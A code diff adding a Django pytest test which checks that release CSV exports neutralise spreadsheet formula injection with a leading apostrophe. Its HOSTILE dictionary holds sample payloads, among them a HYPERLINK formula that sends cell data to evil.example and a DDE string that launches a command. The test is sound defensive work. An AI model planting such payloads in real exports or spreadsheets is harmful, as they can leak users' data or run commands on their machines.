@@ -1,8 +1,10 @@
 """make_release records releases with a changelog computed from the data; /downloads/ lists them."""
 
+import csv
 import datetime
 import io
 import json
+import re
 
 import pytest
 from django.core.management import call_command
@@ -96,3 +98,38 @@ def test_downloads_with_no_release():
 def test_downloads_are_public_cors():
     response = Client().get("/downloads.json", HTTP_ORIGIN="https://elsewhere.example")
     assert response["Access-Control-Allow-Origin"] == "*"
+
+
+HOSTILE = {
+    "note": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "quote": "+SUM(1,2)",
+    "cow_igo": "=cmd|' /C calc'!A0",
+    "title": "@SUM(A1:A9)",
+}
+
+
+def test_every_csv_of_a_release_neutralises_formulas_as_the_api_does(releases_dir):
+    """A note, a quote, a source title and a COW abbreviation (a panel column's name) that a spreadsheet
+    would run: each is written with a leading apostrophe; the panel's numeric codes stay numbers."""
+    period = Membership.objects.filter(citations__isnull=False).first()
+    Membership.objects.filter(pk=period.pk).update(note=HOSTILE["note"])
+    citation = period.citations.first()
+    type(citation).objects.filter(pk=citation.pk).update(quote=HOSTILE["quote"])
+    type(citation.source).objects.filter(pk=citation.source_id).update(title=HOSTILE["title"])
+    Organization.objects.filter(pk=period.organization_id).update(cow_igo=HOSTILE["cow_igo"])
+    release()
+    (folder,) = [p for p in releases_dir.iterdir() if p.is_dir()]
+    seen = set()
+    for path in folder.glob("*.csv"):
+        with open(path, encoding="utf-8", newline="") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                        assert re.fullmatch(r"-[0-9]+", cell), (path.name, cell)
+                    for value in HOSTILE.values():
+                        if cell.endswith(value):
+                            assert cell == "'" + value, (path.name, cell)
+                            seen.add(value)
+    assert seen == set(HOSTILE.values())
+    panel = (folder / "cow_igo_panel.csv").read_text(encoding="utf-8")
+    assert "\n" in panel and ",-1" in panel  # "state did not exist" is still the number -1
